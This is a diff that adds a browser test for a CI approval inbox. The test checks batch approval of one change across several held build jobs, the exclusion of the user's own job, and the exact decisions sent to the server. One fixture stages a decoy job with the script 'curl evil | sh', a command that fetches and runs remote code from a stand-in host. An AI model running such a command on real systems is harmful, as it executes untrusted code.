@@ -112,6 +112,33 @@ describe('the inbox in the browser', () => {
     expect(await page.getByText(/changed since this list was read/).count()).toBe(0);
   });
 
+  it('T13 answers one change in many places with one decision, each with its own digest, and tells what was left out', async () => {
+    await stage.open();
+    const holds = [];
+    for (const name of ['build-a', 'build-b', 'build-c']) holds.push(await waiting({ name, script: ['make'] }));
+    holds.push(await waiting({ name: 'build-d', script: ['make'], options: { user: MARIA } }));
+    await waiting({ name: 'other', script: ['curl evil | sh'] });
+    const page = await stage.see('maria', '/inbox');
+    await page.getByRole('link', { name: '4 jobs in 1 project' }).click();
+    await page.getByRole('heading', { name: 'One change in 4 places' }).waitFor();
+    const own = page.getByRole('row').filter({ hasText: 'build-d' });
+    await own.getByText('left out').waitFor();
+    await own.getByText('you triggered the job').waitFor();
+    await page.getByRole('checkbox', { name: 'build-c of acme/payments/api' }).uncheck();
+    for (let turn = 0; turn < 100; turn++) {
+      const more = page.getByRole('button', { name: 'Show what was not seen' });
+      if ((await more.count()) === 0) break;
+      await more.click({ timeout: 2_000 }).catch(() => {});
+    }
+    const sent = page.waitForRequest((request) => request.url().endsWith('/reviews/decide'));
+    await page.getByRole('button', { name: 'Approve all 2' }).click();
+    const { decisions } = (await sent).postDataJSON() as { decisions: object[] };
+    expect(decisions).toEqual(holds.slice(0, 2).map(({ id, digest }) => ({ hold: id, digest, decision: 'approve' })));
+    await page.getByText('2 votes are recorded.').waitFor();
+    for (const { job_id } of holds.slice(0, 2)) await ended(stage.scene, job_id, 'success');
+    expect((await stage.scene.hold(holds[2]!.job_id, 'waiting_for_approval')).votes).toEqual([]);
+  });
+
   it('leads back to the address that was opened, after the sign-in', async () => {
     await stage.open();
     const hold = await waiting({ name: 'deep' });
